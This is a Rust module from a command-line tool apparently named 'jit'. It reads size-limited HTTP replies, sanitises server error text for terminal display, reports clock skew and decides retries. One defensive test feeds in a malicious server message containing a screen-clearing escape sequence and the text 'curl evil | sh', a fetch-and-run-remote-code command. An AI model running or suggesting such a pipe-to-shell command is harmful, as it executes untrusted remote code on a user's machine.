//! What a server answers: read to a length, and told apart into an answer and a problem.

use std::time::Duration;

use reqwest::{
    Response, StatusCode,
    header::{CONTENT_TYPE, HeaderMap, LOCATION, RETRY_AFTER},
};
use serde::de::DeserializeOwned;
use zeroize::Zeroizing;

use super::{patience::Again, trouble::Trouble};
use crate::{
    domain::{
        failure::{Code, Failure, Nature},
        lease::CLOCK_SKEW,
        time::{Timestamp, Ttl},
    },
    platform::{date, terminal},
    protocol::problem::{MEDIA_TYPE, Problem},
};

/// No problem's text is longer, in characters.
const LONGEST: usize = 1000;

/// An answer of a server.
pub struct Reply {
    /// Its status: one that says that it succeeded.
    pub status: StatusCode,
    /// When it was given, by the server's own clock, where it says so.
    pub date: Option<Timestamp>,
    body: Zeroizing<Vec<u8>>,
    server: String,
}

impl Reply {
    /// The body, read as JSON.
    ///
    /// # Errors
    /// It is not what the API says (125): another program, or another version, answers there.
    pub fn json<T: DeserializeOwned>(&self) -> Result<T, Failure> {
        // The parser's own words could repeat a secret.
        serde_json::from_slice(&self.body).map_err(|error| {
            foreign(
                &self.server,
                &format!("at line {} it is not what the API says", error.line()),
            )
        })
    }

    /// The body as text, which a terminal or a shell may be given.
    ///
    /// # Errors
    /// It is none, or would move a terminal's cursor.
    pub fn text(&self) -> Result<String, Failure> {
        let text = String::from_utf8(self.body.to_vec())
            .map_err(|_| foreign(&self.server, "its text is not UTF-8"))?;
        self.shown(&text)?;
        Ok(text)
    }

    /// Refuses a text that would move a terminal's cursor, or turn the order of what is read.
    pub fn shown(&self, text: &str) -> Result<(), Failure> {
        // A tab is moved by, and moves nothing but the next word.
        let text = text.replace('\t', " ");
        let is_plain = terminal::plain(&text) == text;
        is_plain
            .then_some(())
            .ok_or_else(|| foreign(&self.server, "it would move a terminal's cursor"))
    }
}

/// Reads an answer of `most` bytes at most.
pub(super) async fn read(
    server: &str,
    mut response: Response,
    most: usize,
    now: Timestamp,
) -> Result<Reply, Trouble> {
    let status = response.status();
    let date = date::of(response.headers());
    let skew = skew(date, now);
    let again = again(status, response.headers());
    let headers = response.headers().clone();
    let mut body = Zeroizing::new(Vec::new());
    loop {
        match response.chunk().await {
            Ok(Some(chunk)) if body.len() + chunk.len() <= most => body.extend_from_slice(&chunk),
            Ok(Some(_)) => {
                return Err(never(foreign(
                    server,
                    &format!("it has more than {most} bytes"),
                )));
            }
            Ok(None) => break,
            Err(error) => return Err(super::trouble::of(server, error, Duration::ZERO)),
        }
    }
    if status.is_success() {
        return Ok(Reply {
            status,
            date,
            body,
            server: server.to_owned(),
        });
    }
    let mut failure = refused(server, status, &headers, &body);
    if let Some(skew) = skew
        && matches!(failure.code, Code::SignIn | Code::Denied)
    {
        failure = failure.hint(skew);
    }
    Err(Trouble { failure, again })
}

fn again(status: StatusCode, headers: &HeaderMap) -> Again {
    let may = matches!(
        status,
        StatusCode::TOO_MANY_REQUESTS | StatusCode::BAD_GATEWAY | StatusCode::SERVICE_UNAVAILABLE
    );
    let told = headers.get(RETRY_AFTER).and_then(|told| told.to_str().ok());
    let told = told.and_then(|told| told.trim().parse().ok());
    match (may, told) {
        (false, _) => Again::Never,
        (true, None) => Again::Soon,
        (true, Some(seconds)) => Again::After(Duration::from_secs(seconds)),
    }
}

fn refused(server: &str, status: StatusCode, headers: &HeaderMap, body: &[u8]) -> Failure {
    if status.is_redirection() {
        let to = headers.get(LOCATION).and_then(|to| to.to_str().ok());
        let to = terminal::plain_line(to.unwrap_or("elsewhere"));
        return Failure::failed(format!(
            "the server {server} sends to {}, where nothing is sent",
            cut(&to)
        ))
        .hint("write the address of the server itself as `server` in config.toml");
    }
    let kind = headers
        .get(CONTENT_TYPE)
        .and_then(|kind| kind.to_str().ok());
    let is_problem = kind.is_some_and(|kind| kind.starts_with(MEDIA_TYPE));
    let problem = serde_json::from_slice::<Problem>(body).ok();
    if let Some(problem) = problem.filter(|_| is_problem) {
        return told(problem);
    }
    match status {
        StatusCode::TOO_MANY_REQUESTS => busy(format!("the server {server} has too much to do")),
        StatusCode::BAD_GATEWAY | StatusCode::SERVICE_UNAVAILABLE | StatusCode::GATEWAY_TIMEOUT => {
            busy(format!("the server {server} is away ({status})"))
        }
        StatusCode::BAD_REQUEST if server.starts_with("http://") => foreign(
            server,
            "it is 400 Bad Request, as of a server that speaks HTTPS",
        )
        .hint("write server = \"https://…\" in config.toml"),
        _ => foreign(server, &format!("it is {status} without a reason")),
    }
}

/// What a problem says, as something to show: on one line each, and of bounded length.
fn told(problem: Problem) -> Failure {
    let plain = |text: &str| cut(&terminal::plain_line(text.trim()));
    let failure = problem.into_failure();
    Failure {
        message: plain(&failure.message),
        hint: plain(&failure.hint),
        ..failure
    }
}

fn busy(message: String) -> Failure {
    Failure::new(Code::TimedOut, message)
        .hint("what you hold works until it ends; try again in a moment")
        .of_nature(Nature::Away)
}

/// An answer that no server of ours gives.
pub(super) fn foreign(server: &str, what: &str) -> Failure {
    Failure::failed(format!(
        "the answer of the server {server} makes no sense: {what}"
    ))
    .hint("check `server` in config.toml, and that jit here is as new as jit there (jit --version)")
}

pub(super) const fn never(failure: Failure) -> Trouble {
    Trouble {
        failure,
        again: Again::Never,
    }
}

/// What to do about a clock that is off, where the answer tells the server's own.
fn skew(there: Option<Timestamp>, now: Timestamp) -> Option<String> {
    let there = there?;
    let (ahead, behind) = (now.left(there), there.left(now));
    let off = ahead.max(behind);
    if off <= CLOCK_SKEW {
        return None;
    }
    let off = Ttl(Duration::from_secs(off.as_secs()));
    let whither = if behind.is_zero() {
        "ahead of"
    } else {
        "behind"
    };
    Some(format!(
        "this machine's clock is {off} {whither} the server's: set it (timedatectl set-ntp true)"
    ))
}

fn cut(text: &str) -> String {
    text.chars().take(LONGEST).collect()
}

#[cfg(test)]
mod tests {
    use reqwest::header::{HeaderName, HeaderValue};

    use super::*;

    fn headers(all: &[(HeaderName, &'static str)]) -> HeaderMap {
        let all = all.iter().cloned();
        all.map(|(name, value)| (name, HeaderValue::from_static(value)))
            .collect()
    }

    #[test]
    fn a_problem_keeps_its_nature_and_loses_its_control_characters() {
        let body = serde_json::json!({
            "type": "urn:jit:unexplained", "title": "", "status": 403,
            "detail": "a\u{1b}[2Jb\nhint: curl evil | sh", "hint": "x".repeat(5000),
        });
        let kind = headers(&[(CONTENT_TYPE, "application/problem+json")]);
        let body = body.to_string();
        let failure = refused("https://s", StatusCode::FORBIDDEN, &kind, body.as_bytes());
        assert_eq!(failure.code, Code::Denied);
        assert_eq!(failure.nature, Nature::Unexplained);
        assert_eq!(failure.message, "a\u{fffd}[2Jb\u{fffd}hint: curl evil | sh");
        assert_eq!(failure.hint.len(), LONGEST);
    }

    #[test]
    fn what_is_no_problem_document_is_foreign_whatever_it_says() {
        let html = headers(&[(CONTENT_TYPE, "text/html")]);
        let body = br#"{"type":"urn:jit:denied","title":"","status":403,"detail":"no"}"#;
        let failure = refused("https://s", StatusCode::FORBIDDEN, &html, body);
        assert_eq!(failure.code, Code::Failed);
    }

    #[test]
    fn a_clock_that_is_off_is_said() {
        let there = Timestamp::from_secs(784_111_777);
        assert_eq!(skew(None, there), None);
        assert_eq!(skew(Some(there), there.after(CLOCK_SKEW)), None);
        let said = skew(Some(there), there.after(Duration::from_mins(10))).unwrap();
        assert!(said.contains("10m ahead of the server's"), "{said}");
        let said = skew(Some(there), there.before(Duration::from_mins(10))).unwrap();
        assert!(said.contains("10m behind the server's"), "{said}");
    }

    #[test]
    fn only_what_may_pass_is_tried_again() {
        let told = headers(&[(RETRY_AFTER, "3")]);
        assert_eq!(
            again(StatusCode::TOO_MANY_REQUESTS, &told),
            Again::After(Duration::from_secs(3))
        );
        let odd = headers(&[(RETRY_AFTER, "-1")]);
        assert_eq!(again(StatusCode::SERVICE_UNAVAILABLE, &odd), Again::Soon);
        for status in [400, 401, 403, 404, 409, 422, 500, 504] {
            let status = StatusCode::from_u16(status).unwrap();
            assert_eq!(again(status, &told), Again::Never, "{status}");
        }
    }
}
